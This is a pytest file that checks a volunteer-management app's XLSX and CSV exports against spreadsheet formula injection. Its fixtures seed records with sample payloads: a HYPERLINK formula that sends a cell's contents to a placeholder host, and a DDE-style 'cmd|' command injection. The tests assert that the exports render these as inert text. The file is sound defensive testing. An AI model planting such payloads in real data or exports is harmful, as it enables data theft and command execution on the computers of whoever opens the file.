"""Formula injection (issue 10 item 2): data that looks like a formula comes back as text.

A volunteer called `=HYPERLINK("http://x?"&B2,"点我")` used to come back as a live formula in
every export; in the admin roster with full ID numbers, one click sends them away. Each export is
read back with openpyxl (no cell may be a formula) and as CSV (the OWASP `'` prefix).
"""
from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from extensions import db
from models import (Assignment, Attendance, AttendanceCredit, Event, Expenditure, HourAdjustment, PatrolPoint, Shift,
                    Volunteer)

EVIL = '=HYPERLINK("http://x?"&B2,"点我")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx", "\rx")
Y = 2025
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def evil(app):
    with app.app_context():
        vol = Volunteer(name=EVIL, phone="13900000001", team=OTHERS[0], vest_no=OTHERS[2], joined_on=date(Y, 1, 1))
        point = PatrolPoint(code="P1", name=OTHERS[1], lat=31.1, lon=121.5)
        event = Event(name="@" + EVIL, starts_on=date(Y, 3, 1), ends_on=date(Y, 3, 1))
        db.session.add_all([vol, point, event])
        db.session.flush()
        start = datetime(Y, 3, 1, 2, tzinfo=timezone.utc)
        end = datetime(Y, 3, 1, 4, tzinfo=timezone.utc)
        shift = Shift(event_id=event.id, point_id=point.id, starts_at=start, ends_at=end, capacity=5, note=EVIL)
        db.session.add(shift)
        db.session.flush()
        db.session.add(Assignment(shift_id=shift.id, volunteer_id=vol.id))
        att = Attendance(volunteer_id=vol.id, event_id=event.id, shift_id=shift.id, point_id=point.id, status="closed",
                         check_in_at=start, check_out_at=end, credited_minutes=120, work_date=date(Y, 3, 1),
                         flags="", note=EVIL)
        db.session.add(att)
        db.session.flush()
        db.session.add(AttendanceCredit(attendance_id=att.id, volunteer_id=vol.id, work_date=date(Y, 3, 1), minutes=120))
        db.session.add(HourAdjustment(volunteer_id=vol.id, work_date=date(Y, 3, 2), minutes=60, reason=EVIL))
        db.session.add(Expenditure(year=Y, line="work_fund", spent_on=date(Y, 3, 3), amount=Decimal("10"),
                                   description=EVIL, payee=OTHERS[3], voucher_no=OTHERS[4]))
        db.session.commit()
        return shift.id


def _no_formulas(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    return cells


def test_every_xlsx_and_csv_export_writes_formula_like_data_as_text(client, auth, evil):
    auth.login("admin", role="admin")
    xlsx_urls = ["/coord/volunteers/export.xlsx", "/coord/volunteers/export.xlsx?with_id_numbers=1",
                 f"/coord/programme/export/hours.xlsx?year={Y}", f"/coord/programme/export/attendance.xlsx?year={Y}",
                 f"/coord/programme/export/expenditures.xlsx?year={Y}",
                 f"/coord/programme/export/self-evaluation.xlsx?year={Y}", f"/coord/events/shifts/{evil}/sheet.xlsx"]
    for url in xlsx_urls:
        resp = client.get(url)
        assert resp.status_code == 200, url
        values = _no_formulas(resp.data)
        if "self-evaluation" in url:
            assert "=100%" in values and any(str(v).startswith("=") and "人" in str(v) for v in values)
        else:
            assert EVIL in values or "@" + EVIL in values, url
    csv_urls = ["/coord/volunteers/export.csv", f"/coord/programme/export/hours.csv?year={Y}",
                f"/coord/programme/export/attendance.csv?year={Y}", f"/coord/programme/export/expenditures.csv?year={Y}",
                f"/coord/programme/export/self-evaluation.csv?year={Y}"]
    for url in csv_urls:
        resp = client.get(url)
        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
        cells = _csv_cells(resp.data)
        if "self-evaluation" in url:
            assert "'=100%" in cells
        else:
            assert "'" + EVIL in cells or "'@" + EVIL in cells, url
    roster = _csv_cells(client.get("/coord/volunteers/export.csv").data)
    assert {"'" + OTHERS[0], "'" + OTHERS[2]} <= set(roster)


def test_the_roster_export_still_reads_back_into_the_import(client, auth, evil, app):
    """Text cells keep the value as typed, so the exported roster re-imports unchanged."""
    auth.login("admin", role="admin")
    data = client.get("/coord/volunteers/export.xlsx").data
    from services.imports import VOLUNTEER_COLUMNS
    from services.spreadsheet import read_sheet
    rows = read_sheet(data, "v.xlsx", VOLUNTEER_COLUMNS, required=("name", "phone")).rows
    assert rows[0].get("name") == EVIL


def test_no_export_builds_a_workbook_or_appends_rows_outside_the_one_helper():
    offenders = []
    for path in list((ROOT / "services").glob("*.py")) + list((ROOT / "web").rglob("*.py")) + list((ROOT / "cli").glob("*.py")):
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "import Workbook" in text or "Workbook()" in text or re.search(r"\bws\d*\.append\(", text) or "csv.writer(" in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
